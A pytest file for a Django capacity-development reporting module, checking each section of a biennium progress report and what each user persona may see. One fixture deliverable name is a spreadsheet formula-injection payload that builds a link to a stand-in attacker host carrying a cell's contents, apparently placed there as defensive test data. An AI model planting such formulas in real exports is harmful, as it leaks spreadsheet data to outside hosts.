"""progress_report(): every section's figures on the hand-built facts (tests/facts.py), and
each reader's report in that reader's scope."""

from __future__ import annotations

from decimal import Decimal

import pytest

from capdev.reports.selectors import Biennium, indicator_section, progress_report
from capdev.reports.tests.conftest import BULK_INDICATORS

B2021 = Biennium(2020)


def report_for(world, persona: str):
    return progress_report(world.users[persona], B2021)


def test_deliverables_are_those_of_the_biennium_by_area_with_status_counts(reported):
    section = report_for(reported, "hq").deliverables
    assert [(g.outcome.code, [str(d) for d in g.deliverables]) for g in section.outcomes] == [
        ("1(a)", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "Deliverable D2"]),
        ("2(a)", ["Deliverable D3"]),
    ]
    assert {row.status: row.count for row in section.by_status} == {
        "not_started": 0,
        "in_progress": 1,
        "delayed": 1,
        "done": 1,
    }
    assert (section.total, section.done) == (3, 1)


def test_indicators_are_reported_against_their_targets_with_a_status_explained(reported):
    rows = {row.indicator.code: row for row in report_for(reported, "hq").indicators.rows}
    assert sorted(rows) == ["P-UG", "S-NUM", "S-PCT"]
    number, share, plan = rows["S-NUM"], rows["S-PCT"], rows["P-UG"]
    assert (number.period, number.baseline, number.target, number.actual, number.status) == (
        "2020-21",
        Decimal(10),
        Decimal(20),
        Decimal(18),
        "at_risk",
    )
    assert "80" in number.explanation
    assert (share.period, share.target, share.actual, share.status) == (
        "2021",
        Decimal(50),
        Decimal(60),
        "on_track",
    )
    assert (plan.period, plan.actual, plan.status) == ("2020", Decimal(10), "off_track")


def test_indicators_by_status_count_each_indicator_once(reported):
    counts = {r.status: r.count for r in report_for(reported, "hq").indicators.by_status}
    assert counts == {"on_track": 1, "at_risk": 1, "off_track": 1, "": 0}


def test_delivery_counts_activities_held_in_the_biennium_and_their_participants_by_sex(
    reported,
):
    delivery = report_for(reported, "hq").delivery
    kinds = {
        row.kind: (
            row.activities,
            row.participants.female,
            row.participants.male,
            row.participants.other,
        )
        for row in delivery.by_kind
    }
    assert kinds == {"course": (1, 2, 1, 0), "workshop": (1, 1, 0, 1)}
    assert delivery.activities == 2
    people = delivery.participants
    assert (people.female, people.male, people.other, people.total) == (3, 1, 1, 5)
    assert people.female_share == pytest.approx(3 / 5)


def test_funding_adds_the_two_years_per_currency_and_never_across_currencies(reported):
    funding = report_for(reported, "hq").funding
    activities = {(r.currency, r.kind): (r.amount, r.count, r.share) for r in funding.activities}
    assert activities == {
        ("USD", "regular_budget"): (Decimal("1200.00"), 2, pytest.approx(1200 / 1700)),
        ("USD", "pooled"): (Decimal("500.00"), 1, pytest.approx(500 / 1700)),
    }
    plans = {(r.currency, r.kind): (r.amount, r.count, r.share) for r in funding.plans}
    assert plans == {
        ("EUR", "pooled"): (Decimal("300.00"), 1, 1.0),
        ("USD", "regular_budget"): (Decimal("2000.00"), 1, 1.0),
    }
    assert funding.currencies == ["EUR", "USD"]


def test_capacity_compares_first_and_latest_assessments_up_to_the_end_of_the_biennium(
    reported,
):
    overall = report_for(reported, "hq").capacity.overall
    # KE-gov 0 % → 100 %; UG-wrk 100 % once; KE-emp's 2022 assessment is after the biennium.
    assert (overall.assessed, overall.cohort, overall.improved, overall.declined) == (2, 1, 1, 0)
    assert overall.cohort_baseline_mean == Decimal("0.00")
    assert overall.cohort_latest_mean == Decimal("100.00")
    assert overall.mean_change == Decimal("100.00")


def test_parity_counts_the_delegations_of_the_biennium(reported):
    parity = report_for(reported, "hq").parity
    assert (parity.women, parity.total) == (3, 6)
    groups = {g.key: (g.women, g.total) for g in parity.groups}
    assert groups == {"government": (2, 3), "employers": (0, 2), "workers": (1, 1)}
    counts = parity.delegations
    assert (counts.delegations, counts.reaching_minimum, counts.reaching_goal) == (3, 2, 2)


def test_a_focal_points_report_shows_only_their_organisation(reported):
    report = report_for(reported, "focal")
    # Deliverables and the strategy's indicators are published to every grant.
    assert report.deliverables.total == 3
    assert sorted(r.indicator.code for r in report.indicators.rows) == ["S-NUM", "S-PCT"]
    delivery = report.delivery
    assert [(r.kind, r.activities) for r in delivery.by_kind] == [("course", 1)]
    people = delivery.participants
    assert (people.female, people.male, people.other) == (1, 1, 0)
    assert [(r.currency, r.kind, r.amount, r.count) for r in report.funding.activities] == [
        ("USD", "regular_budget", Decimal("1200.00"), 2)
    ]
    assert report.funding.plans == []
    assert (report.capacity.overall.assessed, report.capacity.overall.cohort) == (1, 1)
    assert (report.parity.women, report.parity.total) == (2, 3)  # Kenya's delegation
    assert report.scope == ["Constituent focal point · Ministry of Labour KE"]


def test_an_office_outside_the_activities_countries_sees_no_delivery(reported):
    report = report_for(reported, "office_b")
    assert report.delivery.by_kind == []
    assert report.delivery.participants.total == 0
    assert report.funding.currencies == []
    assert sorted(r.indicator.code for r in report.indicators.rows) == ["S-NUM", "S-PCT"]
    assert (report.parity.women, report.parity.total) == (1, 1)  # France's delegation


def test_an_account_without_a_grant_gets_an_empty_report(reported):
    report = report_for(reported, "outsider")
    assert report.deliverables.total == 0
    assert report.indicators.rows == []
    assert report.delivery.participants.total == 0
    assert report.capacity.overall.assessed == 0
    assert report.parity.total == 0
    assert report.scope == []


def test_indicators_are_read_in_a_fixed_number_of_queries_whatever_their_number(
    many_indicators, django_assert_max_num_queries
):
    with django_assert_max_num_queries(6):  # the indicators, their targets and measurements
        section = indicator_section(many_indicators.users["hq"], B2021)
    assert len(section.rows) == 3 + BULK_INDICATORS
    counts = {row.status: row.count for row in section.by_status}
    assert counts == {"on_track": 1 + BULK_INDICATORS, "at_risk": 1, "off_track": 1, "": 0}


def test_the_report_is_assembled_in_a_bounded_number_of_queries(
    many_indicators, django_assert_max_num_queries
):
    # 28 indicators: a status read per indicator would take 56 more queries than the ~30.
    with django_assert_max_num_queries(45):
        report = report_for(many_indicators, "hq")
    assert len(report.indicators.rows) == 3 + BULK_INDICATORS


# Activities held in 2020-21 and their participants by sex, as each persona sees them:
# written from the facts (an office sees the activities held in its countries and everyone
# in them; a specialist, their group's beneficiaries and people; a focal point, their own
# organisation's).
DELIVERY = {
    "hq": (2, 3, 1, 1),
    "evaluator": (2, 3, 1, 1),
    "admin": (2, 3, 1, 1),
    "office_a": (2, 3, 1, 1),
    "office_b": (0, 0, 0, 0),
    "workers": (1, 2, 0, 1),  # A2 (for UG-wrk); p3 in A1 and A2, p4 in A2
    "employers_af": (0, 0, 0, 0),
    "focal": (1, 1, 1, 0),  # A1; p1 and p2
    "viewer": (0, 0, 0, 0),
    "outsider": (0, 0, 0, 0),
}


@pytest.mark.parametrize("persona", sorted(DELIVERY))
def test_each_persona_sees_the_delivery_of_its_scope(reported, persona):
    delivery = report_for(reported, persona).delivery
    people = delivery.participants
    assert (delivery.activities, people.female, people.male, people.other) == DELIVERY[persona]
